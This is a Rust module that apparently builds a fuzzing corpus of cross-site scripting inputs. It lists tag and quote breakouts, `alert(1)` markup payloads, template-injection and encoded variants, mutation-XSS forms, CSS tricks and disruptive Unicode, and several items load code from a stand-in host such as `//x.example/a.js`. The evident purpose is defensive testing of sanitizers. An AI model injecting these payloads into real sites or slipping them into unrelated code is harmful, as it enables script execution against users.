//! What somebody writes who wants a page to run it: each calls `alert`, or would break out of where it is put.

/// Ways out of where a text may stand.
const WAYS_OUT: [&str; 13] = [
    "",
    "\">",
    "'>",
    "</textarea>",
    "</script>",
    "</title>",
    "</style>",
    "-->",
    "</select>",
    "</bdi></p>",
    "\" autofocus ",
    "]]>",
    "</noscript>",
];

/// What runs when it is taken for markup.
const MARKS: [&str; 12] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<style>@import '//x.example';</style>",
    "<object data='javascript:alert(1)'>",
    "<a id=bars href='javascript:alert(1)'>x</a>",
    "<base href='//x.example/'>",
];

/// What needs no way out: addresses, attributes, templates, entities, parsers that read twice, styles, and letters that change
/// how others are read.
const OTHERS: [&str; 54] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//x.example/a.js",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\" style=\"position:fixed;inset:0",
    "` onerror=alert(1) `",
    "x onload=alert(1)",
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{% include \"pages/shell.html\" %}",
    "{{ self.key|safe }}",
    "';alert(1);//",
    "\";alert(1);//",
    "\\';alert(1);//",
    "*/alert(1)/*",
    "\u{2028}alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&quot; onclick=&quot;alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\u{a0}src=//x.example>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//x.example/a.css>",
    "body{background:url('//x.example')}",
    "}*{display:none}",
    "expression(alert(1))",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "\u{202e}>tpircs/<)1(trela>tpircs<\u{202c}",
    "\u{2066}\u{2067}\u{202d}\u{5d0}\u{5d1}\u{5d2} abc \u{627}\u{644}\u{639}",
    "\u{fdfd}\u{fdfd}\u{fdfd}\u{fdfd}",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}\u{31e}\u{349}\u{35a}\u{32f}\u{31e}\u{320}\u{34d}A\u{36b}\u{357}\u{334}\u{362}\u{335}\u{31c}\u{330}\u{354}L\u{368}\u{367}\u{369}\u{358}\u{320}G\u{311}\u{357}\u{30e}\u{305}\u{35b}\u{341}\u{334}\u{33b}\u{348}\u{34d}\u{354}\u{339}O",
    "\u{200b}\u{feff}\u{2060}\u{ad}\u{e0041}\u{1f469}\u{200d}\u{1f52c}",
    "A_word_without_an_end_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
];

/// All of them, each once.
pub(crate) fn payloads() -> Vec<String> {
    let marks = WAYS_OUT.iter().flat_map(|way| MARKS.iter().map(move |mark| format!("{way}{mark}")));
    marks.chain(OTHERS.iter().map(|text| (*text).to_owned())).collect()
}

/// All of them in texts of so many characters at most, a line or a blank between two.
pub(crate) fn packed(between: char, longest: usize) -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    for payload in payloads() {
        let long = payload.chars().count();
        if long > longest {
            continue;
        }
        match all.last_mut().filter(|text| text.chars().count() + 1 + long <= longest) {
            Some(text) => {
                text.push(between);
                text.push_str(&payload);
            }
            None => all.push(payload),
        }
    }
    all
}
